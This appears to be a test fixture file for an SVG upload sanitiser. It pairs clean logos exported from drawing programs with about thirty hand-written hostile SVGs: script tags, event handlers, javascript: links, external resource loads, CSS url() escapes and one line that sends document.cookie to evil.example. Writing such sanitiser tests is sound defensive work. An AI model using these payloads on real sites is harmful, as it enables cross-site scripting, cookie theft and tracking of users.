/** SVG files for the upload tests: logos as drawing programs export them, and hostile ones written by hand. */

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

/** A 1 × 1 transparent PNG, as a drawing program embeds a picture. */
const PIXEL_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

/** Clean logos, each with what must survive sanitising. */
export const cleanSvgs = {
  inkscape: {
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="300" height="100" viewBox="0 0 300 100" version="1.1" id="svg1"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   ${XLINK} ${SVG} xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="logo.svg">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="2"/>
  <metadata id="metadata1"><rdf:RDF><rdf:Description><dc:title>Commons Dining</dc:title></rdf:Description></rdf:RDF></metadata>
  <defs id="defs1">
    <linearGradient id="brand" x1="0" x2="1"><stop offset="0" stop-color="#1f4e79"/><stop offset="1" stop-color="#2e7d32"/></linearGradient>
    <path id="leaf" d="M 10,50 C 10,20 40,10 60,10 60,40 40,60 10,50 Z"/>
  </defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect x="0" y="0" width="300" height="100" rx="12" style="fill:url(#brand);stroke:none"/>
    <use xlink:href="#leaf" fill="#ffffff"/>
    <use href="#leaf" transform="translate(40 0)" fill="#c8e6c9"/>
    <text x="90" y="62" font-family="'Open Sans', sans-serif" font-size="32" fill="#ffffff">Commons</text>
  </g>
</svg>`,
    keeps: ['url(#brand)', 'href="#leaf"', '>Commons</text>', 'viewBox="0 0 300 100"'],
    drops: ['inkscape', 'sodipodi', 'rdf:', 'Created with'],
  },
  illustrator: {
    svg: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 28.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" ${SVG} ${XLINK} x="0px" y="0px" viewBox="0 0 200 200" style="enable-background:new 0 0 200 200;" xml:space="preserve">
<style type="text/css">
<![CDATA[
	.st0{fill:#D32F2F;}
	.st1{fill:none;stroke:#FFFFFF;stroke-width:6;}
	g > .st1 {stroke-linecap:round;}
]]>
</style>
<g>
	<circle class="st0" cx="100" cy="100" r="90"/>
	<path class="st1" d="M60,100h80"/>
	<image width="1" height="1" xlink:href="data:image/png;base64,${PIXEL_PNG}" transform="matrix(20 0 0 20 90 140)"/>
</g>
</svg>`,
    keeps: ['.st0{fill:#D32F2F;}', 'g &gt; .st1', 'class="st0"', 'data:image/png;base64,'],
    drops: ['Generator', 'DOCTYPE'],
  },
  figma: {
    svg: `<svg width="120" height="40" viewBox="0 0 120 40" fill="none" ${SVG}>
<g clip-path="url(#clip0_1_2)" filter="url(#filter0_d_1_2)">
<rect width="120" height="40" rx="8" fill="#6750A4"/>
</g>
<defs>
<filter id="filter0_d_1_2" x="-4" y="-2" width="128" height="48" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/>
<feGaussianBlur stdDeviation="2"/>
<feBlend mode="normal" in2="BackgroundImageFix" result="shape"/>
</filter>
<clipPath id="clip0_1_2"><rect width="120" height="40" fill="white"/></clipPath>
</defs>
</svg>
`,
    keeps: ['clip-path="url(#clip0_1_2)"', '<feGaussianBlur', '<clipPath id="clip0_1_2"'],
    drops: [],
  },
} as const;

/** Hostile SVGs, each refused with the sentence for scripts and links. */
export const hostileSvgs: Record<string, string> = {
  'a script element': `<svg ${SVG}><script>alert(document.cookie)</script><rect width="1" height="1"/></svg>`,
  'a script in CDATA': `<svg ${SVG}><script type="text/javascript"><![CDATA[ fetch('https://evil.example/'+document.cookie) ]]></script></svg>`,
  'a script in upper case': `<svg ${SVG}><SCRIPT>alert(1)</SCRIPT></svg>`,
  'a prefixed script': `<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
  'an XHTML script': `<svg ${SVG}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`,
  'onload on the root': `<svg ${SVG} onload="alert(1)"><rect width="1" height="1"/></svg>`,
  'onclick on a shape': `<svg ${SVG}><rect width="1" height="1" onclick="alert(1)"/></svg>`,
  'a namespaced handler': `<svg ${SVG} xmlns:x="urn:x"><rect width="1" height="1" x:onmouseover="alert(1)"/></svg>`,
  'foreignObject with HTML': `<svg ${SVG}><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>`,
  'an iframe in foreignObject': `<svg ${SVG}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`,
  'a javascript: link': `<svg ${SVG} ${XLINK}><a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>`,
  'a javascript: link with a tab in it': `<svg ${SVG}><a href="jav&#x09;ascript:alert(1)"><rect width="1" height="1"/></a></svg>`,
  'a link to another site': `<svg ${SVG}><a href="https://evil.example/"><rect width="1" height="1"/></a></svg>`,
  'an external image': `<svg ${SVG}><image href="https://tracker.example/pixel.png" width="1" height="1"/></svg>`,
  'an external xlink image': `<svg ${SVG} ${XLINK}><image xlink:href="http://tracker.example/pixel.png" width="1" height="1"/></svg>`,
  'an embedded SVG picture': `<svg ${SVG}><image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="1" height="1"/></svg>`,
  'a protocol-relative image': `<svg ${SVG}><image href="//tracker.example/p.png" width="1" height="1"/></svg>`,
  'a relative image': `<svg ${SVG}><image href="../../secret.png" width="1" height="1"/></svg>`,
  'an external use': `<svg ${SVG} ${XLINK}><use xlink:href="https://evil.example/sprite.svg#icon"/></svg>`,
  'an external feImage': `<svg ${SVG}><filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect width="1" height="1" filter="url(#f)"/></svg>`,
  'a style sheet importing another': `<svg ${SVG}><style>@import url(https://evil.example/x.css);</style></svg>`,
  'a style sheet with an external url()': `<svg ${SVG}><style>rect { fill: url("https://evil.example/x.svg#g") }</style><rect width="1" height="1"/></svg>`,
  'a style sheet hiding url() in escapes': `<svg ${SVG}><style>rect { fill: \\75 rl(https://evil.example/x) }</style></svg>`,
  'a style sheet with a font from elsewhere': `<svg ${SVG}><style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style></svg>`,
  'a style sheet with image-set': `<svg ${SVG}><style>rect { background: image-set("https://evil.example/x.png" 1x) }</style></svg>`,
  'a style attribute with an external url()': `<svg ${SVG}><rect width="1" height="1" style="fill:url(https://evil.example/p#g)"/></svg>`,
  'a presentation attribute with an external url()': `<svg ${SVG}><rect width="1" height="1" filter="url(https://evil.example/f.svg#blur)"/></svg>`,
  'an animation setting a link': `<svg ${SVG}><a href="#x"><set attributeName="href" to="javascript:alert(1)"/><rect width="1" height="1"/></a></svg>`,
  'an animation setting a handler': `<svg ${SVG}><animate attributeName="onbegin" values="alert(1)"/></svg>`,
  'a stylesheet instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="https://evil.example/x.css"?><svg ${SVG}><rect width="1" height="1"/></svg>`,
  'an embedded object': `<svg ${SVG}><embed src="https://evil.example/x.swf"/></svg>`,
  'xml:base rebasing links': `<svg ${SVG} xml:base="https://evil.example/"><image href="#x"/></svg>`,
};
